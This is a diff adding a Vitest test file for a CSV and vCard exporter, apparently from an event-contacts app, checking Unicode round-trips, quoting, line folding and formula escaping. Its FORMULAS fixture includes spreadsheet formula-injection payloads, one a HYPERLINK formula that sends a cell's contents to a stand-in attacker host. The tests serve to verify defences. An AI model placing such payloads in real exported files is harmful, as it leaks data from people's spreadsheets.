@@ -1,0 +1,137 @@
+import { describe, expect, it } from 'vitest';
+import { csvField, toCsv } from '../../src/exports/csv';
+import { type Card, uuidFromId, vcards } from '../../src/exports/vcard';
+import { newId } from '../../src/lib/crypto';
+import { checkFolding, readCsv, readVcards } from './parse';
+
+/** Values that break naive writers: non-Latin scripts, an emoji, separators, quotes, line breaks. */
+const NASTY = [
+  'Jörg Heinicke',
+  'Łukasz Żółć',
+  '李小龙',
+  'Emoji 🎉 Guest',
+  'Comma, Inc.',
+  'Say "cheese"',
+  'Semi; colon',
+  'Line\nbreak',
+  'CRLF\r\nbreak',
+  'Back\\slash',
+  '  padded  ',
+  '',
+];
+
+/** Each of these would run as a formula in Excel, LibreOffice or Google Sheets without the apostrophe. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  '=1+1',
+  '+49 69 123456',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+describe('CSV writer, read back with csv-parse', () => {
+  it('round-trips every nasty value in every column, with BOM and CRLF', () => {
+    const rows = NASTY.map((v, i) => [v, `row ${i}`, v.toUpperCase()]);
+    const text = toCsv(['Name', 'Index', 'Upper'], rows);
+    expect(text.startsWith('\uFEFFName,Index,Upper\r\n')).toBe(true);
+    expect(text.endsWith('\r\n')).toBe(true);
+    // No bare LF outside quoted fields: every record ends with CRLF.
+    const parsed = readCsv(text);
+    expect(parsed.header).toEqual(['Name', 'Index', 'Upper']);
+    expect(parsed.rows).toHaveLength(NASTY.length);
+    NASTY.forEach((v, i) => {
+      expect(parsed.rows[i]).toEqual({ Name: v, Index: `row ${i}`, Upper: v.toUpperCase() });
+    });
+  });
+
+  it('prefixes formula starts with an apostrophe and keeps the rest of the text', () => {
+    const text = toCsv(
+      ['Company'],
+      FORMULAS.map((f) => [f]),
+    );
+    const parsed = readCsv(text).rows.map((r) => r.Company);
+    expect(parsed).toEqual(FORMULAS.map((f) => `'${f}`));
+    for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('quotes only when needed, doubling quotes (RFC 4180 §2.5–2.7)', () => {
+    expect(csvField('plain')).toBe('plain');
+    expect(csvField('a,b')).toBe('"a,b"');
+    expect(csvField('a;b')).toBe('"a;b"');
+    expect(csvField('say "hi"')).toBe('"say ""hi"""');
+    expect(csvField('a\nb')).toBe('"a\nb"');
+    expect(csvField('=1,2')).toBe(`"'=1,2"`);
+    expect(csvField('a=b')).toBe('a=b');
+  });
+});
+
+function card(name: string, extra: Partial<Card> = {}): Card {
+  return { id: newId(), name, ...extra, category: 'Network Dinner, Frankfurt' };
+}
+
+describe('vCard 4.0 writer, read back with ical.js', () => {
+  it('round-trips nasty values in every property and folds at 75 octets without splitting UTF-8', () => {
+    const cards = NASTY.filter((v) => v.trim() !== '').map((v, i) =>
+      card(v.trim(), {
+        company: `${v} GmbH; Abteilung, Nord`,
+        role: v,
+        email: `guest${i}@example.com`,
+        phone: '+49 (0)69 123/456',
+        linkedin: 'https://www.linkedin.com/in/j%C3%B6rg-heinicke',
+        note: `${v} — ${'李小龙🎉ö'.repeat(12)}`,
+      }),
+    );
+    const text = vcards(cards);
+    checkFolding(text);
+    expect(text.split('\r\n').some((l) => l.startsWith(' '))).toBe(true);
+    const parsed = readVcards(text);
+    expect(parsed).toHaveLength(cards.length);
+    // vCard has one newline escape (\n): CRLF and CR in a value come back as LF.
+    const lf = (v?: string) => v?.replace(/\r\n|\r/g, '\n');
+    parsed.forEach((p, i) => {
+      const c = cards[i]!;
+      expect(p.version).toBe('4.0');
+      expect(p.uid).toBe(`urn:uuid:${uuidFromId(c.id)}`);
+      expect(p.fn).toBe(lf(c.name));
+      expect(p.org).toBe(lf(c.company));
+      expect(p.title).toBe(lf(c.role));
+      expect(p.email).toBe(c.email);
+      expect(p.tel).toBe('tel:+49-69-123-456');
+      expect(p.telType).toBe('uri');
+      expect(p.url).toBe(c.linkedin);
+      expect(p.note).toBe(lf(c.note));
+      expect(p.categories).toEqual(['Network Dinner, Frankfurt']);
+    });
+  });
+
+  it('splits N as family;given for Western names and keeps one-word names whole', () => {
+    const parsed = readVcards(
+      vcards([card('Jörg Heinicke'), card('Łukasz Żółć'), card('李小龙'), card('Anna Maria Berg')]),
+    );
+    expect(parsed.map((p) => p.n)).toEqual([
+      ['Heinicke', 'Jörg', '', '', ''],
+      ['Żółć', 'Łukasz', '', '', ''],
+      ['李小龙', '', '', '', ''],
+      ['Berg', 'Anna Maria', '', '', ''],
+    ]);
+  });
+
+  it('leaves out empty properties and writes local numbers as text', () => {
+    const [p] = readVcards(vcards([card('Solo', { phone: '069 123456' })]));
+    expect(p).toMatchObject({ org: null, title: null, email: null, url: null, note: null, tel: '069 123456' });
+    expect(p!.telType).toBe('text');
+  });
+
+  it('gives each ticket id a stable, distinct UUID', () => {
+    const a = newId();
+    expect(uuidFromId(a)).toBe(uuidFromId(a));
+    expect(uuidFromId(a)).not.toBe(uuidFromId(newId()));
+    expect(uuidFromId(a)).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
+  });
+
+  it('an empty list is an empty file', () => {
+    expect(vcards([])).toBe('');
+  });
+});
